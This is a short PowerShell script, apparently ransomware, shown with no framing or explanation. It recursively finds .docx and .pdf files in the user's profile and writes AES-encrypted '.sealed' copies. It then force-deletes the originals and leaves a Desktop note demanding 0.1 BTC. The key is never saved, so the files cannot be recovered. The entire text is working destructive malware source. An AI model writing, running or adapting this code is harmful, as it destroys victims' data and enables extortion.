$aes = [System.Security.Cryptography.Aes]::Create()
Get-ChildItem -Path $env:USERPROFILE -Recurse -File -Include *.docx,*.pdf | ForEach-Object {
  $bytes = [IO.File]::ReadAllBytes($_.FullName)
  $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
  [IO.File]::WriteAllBytes($_.FullName + '.sealed', $enc)
  Remove-Item $_.FullName -Force
}
Set-Content "$env:USERPROFILE\Desktop\HOW_TO_RESTORE.txt" "Your files have been encrypted. Send 0.1 BTC to restore them."
